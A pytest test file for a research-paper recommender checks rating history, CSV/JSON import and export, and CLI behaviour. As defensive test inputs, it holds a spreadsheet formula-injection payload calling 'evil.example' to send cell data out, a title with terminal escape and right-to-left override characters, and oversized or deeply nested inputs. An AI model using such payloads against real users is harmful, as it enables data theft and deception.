"""Ratings: history, the latest one counting, export and import."""

from __future__ import annotations

import csv
import io
import json
import threading
import time
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import pytest
from click.testing import CliRunner
from sqlalchemy import event

from recommender import ratings, ratings_io
from recommender.cli import cli
from recommender.config import Settings
from recommender.core import Recommender, SubscriberNotFound
from recommender.dumps import paper_id
from recommender.store import subscribers as subscriber_store
from recommender.store.papers import PaperNotFound
from tests.builders import dump_text, entry
from tests.clock import Clock
from tests.commands import cli_env, invoke, run

EMAIL = "ada@example.org"


@pytest.fixture
def rated_app(app: Recommender, tmp_path: Path) -> Recommender:
    dump = tmp_path / "d.txt"
    dump.write_text(dump_text([entry(n) for n in range(1, 6)]))
    app.ingest([dump], reference_date=date(2026, 3, 21))
    profile = tmp_path / "ada.toml"
    profile.write_text(f'email = "{EMAIL}"\n')
    app.subscribe(profile)
    return app


def test_the_latest_rating_counts_and_the_history_keeps_all(
    rated_app: Recommender, clock: Clock
) -> None:
    rated_app.rate(EMAIL, "Paper 1:", "up")
    clock.now += timedelta(minutes=1)
    rated_app.rate(EMAIL, "Paper 1:", "down", source="email")
    clock.now += timedelta(minutes=1)
    rated_app.rate(EMAIL, "Paper 2:", "up", source="web")
    current = rated_app.ratings(EMAIL)
    assert [(r.title[:8], r.vote, r.source) for r in current] == [
        ("Paper 2:", "up", "web"),
        ("Paper 1:", "down", "email"),
    ]
    history = rated_app.ratings(EMAIL, history=True)
    assert [r.vote for r in history] == ["up", "down", "up"]
    # the listing of every subscriber counts the same way (one query for all of them)
    assert rated_app.subscriber(EMAIL).ratings == 2
    assert [u.ratings for u in rated_app.subscribers() if u.email == EMAIL] == [2]


def test_clearing_a_rating_removes_it_from_the_current_ones(
    rated_app: Recommender, clock: Clock
) -> None:
    rated_app.rate(EMAIL, "Paper 3:", "up")
    clock.now += timedelta(seconds=1)
    rated_app.rate(EMAIL, "Paper 3:", "clear")
    assert rated_app.ratings(EMAIL) == []
    assert len(rated_app.ratings(EMAIL, history=True)) == 2
    assert rated_app.subscriber(EMAIL).ratings == 0
    assert [u.ratings for u in rated_app.subscribers() if u.email == EMAIL] == [0]


def test_rating_needs_a_known_subscriber_and_paper(rated_app: Recommender) -> None:
    with pytest.raises(SubscriberNotFound):
        rated_app.rate("who@example.org", "Paper 1:", "up")
    with pytest.raises(PaperNotFound):
        rated_app.rate(EMAIL, "No such paper", "up")
    assert rated_app.ratings(EMAIL, history=True) == []


@pytest.mark.parametrize("fmt", ratings_io.FORMATS)
def test_exported_ratings_import_into_another_database_unchanged(
    rated_app: Recommender, clock: Clock, tmp_path: Path, fmt: str
) -> None:
    for n, vote in ((1, "up"), (2, "down"), (1, "clear"), (3, "up")):
        rated_app.rate(EMAIL, f"Paper {n}:", vote)
        clock.now += timedelta(minutes=1)
    text = ratings_io.write_ratings(rated_app.export_ratings(EMAIL), fmt)
    records = ratings_io.read_ratings(text, fmt, f"ratings.{fmt}")
    assert records == rated_app.export_ratings(EMAIL)

    other_db = rated_app.settings.__class__(
        home=tmp_path, database_url=f"sqlite:///{tmp_path / f'other-{fmt}.db'}"
    )
    with Recommender(other_db, clock=clock) as other:
        other.ingest([tmp_path / "d.txt"], reference_date=date(2026, 3, 21))
        other.subscribe(tmp_path / "ada.toml")
        report = other.import_ratings(EMAIL, records)
        assert (report.imported, report.already_there, report.unknown_papers) == (4, 0, [])
        assert other.ratings(EMAIL, history=True) == rated_app.ratings(EMAIL, history=True)
        again = other.import_ratings(EMAIL, records)
        assert (again.imported, again.already_there) == (0, 4)


def test_importing_ratings_of_unknown_papers_skips_and_names_them(rated_app: Recommender) -> None:
    csv_text = (
        "paper_id,title,vote,source,rated_at\n"
        ",Paper 2: Learning Things Number 2,up,web,2026-03-01T10:00:00+00:00\n"
        ",A Paper Nobody Ingested,down,cli,2026-03-01T10:00:00+00:00\n"
    )
    report = rated_app.import_ratings(EMAIL, ratings_io.read_ratings(csv_text, "csv", "r.csv"))
    assert (report.imported, report.unknown_papers) == (1, ["A Paper Nobody Ingested"])


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("paper_id,title,vote\nx,y,up\n", "r.csv:1: missing column 'rated_at'"),
        (
            "paper_id,title,vote,source,rated_at\nx,y,sideways,cli,2026-03-01T10:00:00+00:00\n",
            "r.csv: line 2: field 'vote' is 'sideways'",
        ),
        ("paper_id,title,vote,source,rated_at\nx,y,up,cli,yesterday\n", "line 2: field 'rated_at'"),
        (
            "paper_id,title,vote,source,rated_at\nx,y,up,cli,2026-03-01T10:00:00\n",
            "needs a time zone",
        ),
    ],
)
def test_a_bad_ratings_file_is_refused_naming_the_line_and_field(text: str, message: str) -> None:
    with pytest.raises(ratings_io.RatingsFileError, match=message):
        ratings_io.read_ratings(text, "csv", "r.csv")


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16"])
@pytest.mark.parametrize("fmt", ratings_io.FORMATS)
def test_an_export_resaved_with_a_byte_order_mark_or_in_utf16_reads_the_same(
    rated_app: Recommender, tmp_path: Path, fmt: str, encoding: str
) -> None:
    rated_app.rate(EMAIL, "Paper 1:", "up")
    rated_app.rate(EMAIL, "Paper 2:", "down")
    resaved = tmp_path / f"ratings.{fmt}"
    resaved.write_text(ratings_io.write_ratings(rated_app.export_ratings(EMAIL), fmt), encoding)
    assert ratings_io.read_ratings_file(resaved) == rated_app.export_ratings(EMAIL)


def test_importing_a_file_that_is_not_text_fails_naming_its_line(
    database_url: str, tmp_path: Path
) -> None:
    bad = tmp_path / "r.csv"
    bad.write_bytes(
        b"paper_id,title,vote,source,rated_at\n"
        b",Paper 1,up,cli,2026-03-01T10:00:00+00:00\n"
        b",Caf\xe9 au lait,up,cli,2026-03-01T10:00:00+00:00\n"
    )
    result = run("import-ratings", EMAIL, str(bad), env={"RECOMMENDER_DATABASE_URL": database_url})
    assert result.returncode == 1
    assert "Traceback" not in result.stderr
    assert f"{bad}:3: not UTF-8 text (invalid byte 0xe9)" in result.stderr


def test_exporting_into_a_folder_that_does_not_exist_fails_naming_the_file(
    database_url: str, tmp_path: Path
) -> None:
    env = {"RECOMMENDER_DATABASE_URL": database_url}
    profile = tmp_path / "p.toml"
    profile.write_text(f'email = "{EMAIL}"\n')
    assert run("subscribe", str(profile), env=env).returncode == 0
    target = tmp_path / "no such folder" / "ratings.csv"
    result = run("export-ratings", EMAIL, "-o", str(target), env=env)
    assert (result.returncode, result.stderr.strip()) == (
        1,
        f"Error: cannot write {target}: No such file or directory",
    )
    assert not target.parent.exists()


def test_rate_and_ratings_from_the_command_line(database_url: str, tmp_path: Path) -> None:
    env = {"RECOMMENDER_DATABASE_URL": database_url}
    dump = tmp_path / "d.txt"
    dump.write_text(dump_text([entry(1), entry(2)]))
    assert run("ingest", str(dump), env=env).returncode == 0
    profile = tmp_path / "p.toml"
    profile.write_text(f'email = "{EMAIL}"\nname = "Ada"\n')
    subscribed = run("subscribe", str(profile), env=env)
    assert "created: ada@example.org" in subscribed.stdout
    assert run("rate", EMAIL, "paper 2:", "up", env=env).returncode == 0
    users = json.loads(run("users", "--json", env=env).stdout)
    assert [(u["email"], u["active"], u["ratings"]) for u in users] == [(EMAIL, True, 1)]
    listed = json.loads(run("ratings", EMAIL, "--json", env=env).stdout)
    assert [(r["title"][:8], r["vote"], r["source"]) for r in listed] == [("Paper 2:", "up", "cli")]
    assert listed[0]["paper_id"] == paper_id(entry(2).title)
    exported = tmp_path / "out.json"
    assert run("export-ratings", EMAIL, "-o", str(exported), env=env).returncode == 0
    assert run("unsubscribe", EMAIL, env=env).stdout.startswith("Unsubscribed")
    users = json.loads(run("users", "--json", env=env).stdout)
    assert users[0]["active"] is False
    bad = run("rate", "nobody@example.org", "paper 2:", "up", env=env)
    assert bad.returncode == 1 and "no subscriber with the email address" in bad.stderr
    bad_profile = tmp_path / "bad.toml"
    bad_profile.write_text('email = "x@example.org"\nschedule = "often"\n')
    refused = run("subscribe", str(bad_profile), env=env)
    assert refused.returncode == 1 and f"{bad_profile}: field 'schedule'" in refused.stderr


def test_a_vote_equal_to_the_current_one_adds_no_history_row(
    rated_app: Recommender, clock: Clock
) -> None:
    first = rated_app.rate(EMAIL, "Paper 1:", "up", source="email")
    clock.now += timedelta(minutes=1)
    again = rated_app.rate(EMAIL, "Paper 1:", "up", source="web")
    assert again == first  # the rating that stands, from when it was given
    rated_app.rate(EMAIL, "Paper 2:", "clear")  # never rated: clearing changes nothing
    clock.now += timedelta(minutes=1)
    rated_app.rate(EMAIL, "Paper 1:", "clear")
    rated_app.rate(EMAIL, "Paper 1:", "clear")
    rated_app.rate(EMAIL, "Paper 1:", "up")
    assert [(r.title[:8], r.vote) for r in rated_app.ratings(EMAIL, history=True)] == [
        ("Paper 1:", "up"),
        ("Paper 1:", "clear"),
        ("Paper 1:", "up"),
    ]


def test_rate_says_when_a_vote_changes_nothing_and_clearing_an_unrated_paper_says_so(
    rated_app: Recommender, settings: Settings
) -> None:
    env = cli_env(settings)
    title = entry(1).title

    def rate(vote: str) -> str:
        result = invoke("rate", EMAIL, "Paper 1:", vote, env=env)
        assert result.exit_code == 0
        return result.output

    assert rate("clear") == f"Not rated, so nothing to clear: {title}\n"
    assert rate("up") == f"👍 {title}\n"
    assert rate("up") == f"Already rated up: {title}\n"
    assert rate("clear") == f"cleared {title}\n"
    assert rate("clear") == f"Not rated, so nothing to clear: {title}\n"
    history = rated_app.ratings(EMAIL, history=True)
    assert [r.vote for r in history] == ["up", "clear"]
    listed = json.loads(invoke("ratings", EMAIL, "--history", "--json", env=env).output)
    assert "changed" not in listed[0]


@pytest.mark.parametrize("command", ["export-ratings", "import-ratings"])
def test_the_format_option_lists_the_formats_and_the_default_in_its_help(command: str) -> None:
    (option,) = [p for p in cli.commands[command].params if p.name == "fmt"]
    assert option.help is not None and option.help.startswith("csv or json. Default: json if")
    assert set(ratings_io.FORMATS) == {"csv", "json"}  # else the help above is out of date
    shown = " ".join(CliRunner().invoke(cli, [command, "--help"]).output.split())
    assert f"--format [csv|json] {option.help}" in shown


def test_an_export_is_json_for_a_json_file_and_csv_otherwise_as_its_help_says(
    rated_app: Recommender, settings: Settings, tmp_path: Path
) -> None:
    rated_app.rate(EMAIL, "Paper 1:", "up")
    env = cli_env(settings)
    for name in ("a.json", "a.txt"):
        assert invoke("export-ratings", EMAIL, "-o", str(tmp_path / name), env=env).exit_code == 0
    assert json.loads((tmp_path / "a.json").read_text())[0]["vote"] == "up"
    assert (tmp_path / "a.txt").read_text().startswith("paper_id,")


HEADER = "paper_id,title,vote,source,rated_at\n"
WHEN = "2026-03-01T10:00:00+00:00"


@pytest.mark.parametrize(
    ("fmt", "text", "message"),
    [
        ("csv", f'{HEADER},"{"t" * 200_000}",up,cli,{WHEN}\n', "line 2: "),
        ("json", "[" * 100_000 + "]" * 100_000, "not valid JSON: nested too deeply"),
        ("json", '[{"title": "x", "vote": "up", "source": ' + "9" * 5000 + "}]", "not valid JSON"),
    ],
)
def test_a_ratings_file_with_a_huge_field_or_nesting_is_refused_not_a_crash(
    fmt: str, text: str, message: str
) -> None:
    with pytest.raises(ratings_io.RatingsFileError, match=f"^r.{fmt}:? ?.*{message}"):
        ratings_io.read_ratings(text, fmt, f"r.{fmt}")


@pytest.mark.parametrize("when", ["0001-01-01T00:30:00+01:00", "9999-12-31T23:30:00-01:00"])
def test_a_rating_dated_outside_the_calendar_in_utc_is_refused_naming_its_line(
    when: str,
) -> None:
    with pytest.raises(ratings_io.RatingsFileError, match="r.csv: line 3: field 'rated_at'"):
        ratings_io.read_ratings(f"{HEADER},x,up,cli,{WHEN}\n,y,up,cli,{when}\n", "csv", "r.csv")


@pytest.mark.parametrize(
    ("field", "value"), [("paper_id", "x\\u0000"), ("paper_id", "x\\ud800"), ("title", "x\\ud800")]
)
def test_text_no_database_can_hold_is_refused_naming_its_item_and_nothing_imports(
    rated_app: Recommender, tmp_path: Path, field: str, value: str
) -> None:
    good = f'{{"paper_id": "{paper_id(entry(1).title)}", "vote": "up", "rated_at": "{WHEN}"}}'
    bad = f'{{"{field}": "{value}", "vote": "up", "rated_at": "{WHEN}"}}'
    file = tmp_path / "r.json"
    file.write_text(f"[{good}, {bad}]")
    result = invoke("import-ratings", EMAIL, str(file), env=cli_env(rated_app.settings))
    assert result.exit_code == 1
    assert f"{file}: item 2: field {field!r}" in result.output
    assert rated_app.ratings(EMAIL, history=True) == []


def test_a_rating_dated_after_now_is_refused_and_nothing_imports(
    rated_app: Recommender, tmp_path: Path
) -> None:
    # kept, it would stay the paper's latest rating: every vote until 2099 would change nothing
    now = rated_app.clock()
    soon = (now + ratings.CLOCK_SKEW / 2).isoformat()  # another machine's clock a little ahead
    rows = f"{paper_id(entry(1).title)},,up,cli,{soon}\n{paper_id(entry(2).title)},,down,cli,"
    file = tmp_path / "r.csv"
    file.write_text(HEADER + rows + "2099-01-01T00:00:00+00:00\n")
    result = invoke("import-ratings", EMAIL, str(file), env=cli_env(rated_app.settings))
    assert result.exit_code == 1
    assert f"the rating of {paper_id(entry(2).title)!r} is dated 2099-01-01T00:00:00+00:00" in (
        result.output
    )
    assert "nothing was imported" in result.output
    assert rated_app.ratings(EMAIL, history=True) == []
    file.write_text(HEADER + rows.rsplit("\n", 1)[0] + "\n")
    assert (
        invoke("import-ratings", EMAIL, str(file), env=cli_env(rated_app.settings)).exit_code == 0
    )
    assert len(rated_app.ratings(EMAIL, history=True)) == 1


def test_the_same_file_imported_twice_at_once_stores_each_rating_once(
    rated_app: Recommender,
) -> None:
    rows = "".join(f"{paper_id(entry(n).title)},,up,web,{WHEN}\n" for n in (1, 2))
    records = ratings_io.read_ratings(HEADER + rows, "csv", "r.csv")
    reports = []
    with rated_app._session() as session, session.begin():
        subscriber = subscriber_store.get_subscriber(session, EMAIL)
        reports.append(ratings.import_records(session, subscriber, records, rated_app.clock()))
        session.flush()
        # the second run starts while the first is still to commit
        second = threading.Thread(
            target=lambda: reports.append(rated_app.import_ratings(EMAIL, records))
        )
        second.start()
        time.sleep(1)
    second.join(timeout=60)
    assert [(r.imported, r.already_there) for r in reports] == [(2, 0), (0, 2)]
    assert len(rated_app.ratings(EMAIL, history=True)) == 2


@pytest.mark.parametrize(
    ("fmt", "text", "message"),
    [
        (
            "csv",
            f"paper_id,title,vote,sorce,rated_at\n,x,up,web,{WHEN}\n",
            r"r\.csv:1: unknown column 'sorce'; did you mean 'source'\?",
        ),
        (
            "csv",
            f"paper id,title,vote,source,rated_at\nabc,,up,web,{WHEN}\n",
            r"r\.csv:1: unknown column 'paper id'; did you mean 'paper_id'\?",
        ),
        (
            "csv",
            f"paper_id,title,Vote,source,rated_at\n,x,up,web,{WHEN}\n",
            r"r\.csv:1: unknown column 'Vote'; did you mean 'vote'\?",
        ),
        (
            "json",
            f'[{{"title": "x", "vote": "up", "rated_at": "{WHEN}", "sourse": "web"}}]',
            r"r\.json: item 1: unknown field 'sourse'; did you mean 'source'\?",
        ),
    ],
)
def test_a_mistyped_column_is_refused_with_the_one_it_likely_meant(
    fmt: str, text: str, message: str
) -> None:
    with pytest.raises(ratings_io.RatingsFileError, match=f"^{message}"):
        ratings_io.read_ratings(text, fmt, f"r.{fmt}")


def test_columns_of_its_own_and_any_order_blank_lines_and_crlf_read_the_same() -> None:
    plain = ratings_io.read_ratings(f"{HEADER},x,up,web,{WHEN}\n", "csv", "r.csv")
    edited = f"rated_at,notes,vote,title,source\r\n\r\n{WHEN},liked it,up,x,web\r\n\r\n"
    assert ratings_io.read_ratings(edited, "csv", "r.csv") == plain


def test_a_title_not_in_the_database_is_listed_with_its_control_characters_escaped(
    rated_app: Recommender, tmp_path: Path
) -> None:
    file = tmp_path / "r.csv"
    file.write_text(f'{HEADER},"Gone\x1b]0;owned\x07 \u202eevil",up,web,{WHEN}\n')
    result = CliRunner().invoke(
        cli, ["import-ratings", EMAIL, str(file)], env=cli_env(rated_app.settings)
    )
    assert result.exit_code == 0
    assert "  not here: Gone\\x1b]0;owned\\x07 \\u202eevil\n" in result.stderr


def test_a_large_ratings_file_imports_in_a_few_queries(
    rated_app: Recommender, tmp_path: Path
) -> None:
    rows = "".join(f"{n:016x},Unknown {n},up,web,{WHEN}\n" for n in range(5000))
    rows += f"{paper_id(entry(1).title)},,up,web,{WHEN}\n,{entry(2).title},down,web,{WHEN}\n"
    records = ratings_io.read_ratings(HEADER + rows, "csv", "r.csv")
    statements = []
    event.listen(rated_app.engine, "before_cursor_execute", lambda *a: statements.append(a[2]))
    report = rated_app.import_ratings(EMAIL, records)
    assert (report.imported, len(report.unknown_papers)) == (2, 5000)
    assert len(statements) < 50  # not two per row: 100,000 rows took 24 s so
    assert [r.vote for r in rated_app.ratings(EMAIL, history=True)] == ["up", "down"]


@pytest.mark.parametrize(
    "title",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+1 for Scaling",
        "-based Retrieval",
        "@SUM(1+1)",
        "'=already quoted",
        "''=twice",
        "'plain quote",
        "Plain = Title",
    ],
)
def test_a_csv_export_holds_no_formula_a_spreadsheet_would_run_and_imports_unchanged(
    title: str,
) -> None:
    records = [ratings_io.RatingRecord("", title, "up", "web", datetime(2026, 3, 21, tzinfo=UTC))]
    text = ratings_io.write_ratings(records, "csv")
    fields = [value for row in csv.reader(io.StringIO(text)) for value in row]
    assert not any(value.startswith(ratings_io.FORMULA_STARTS) for value in fields)
    assert ratings_io.read_ratings(text, "csv", "r.csv") == records
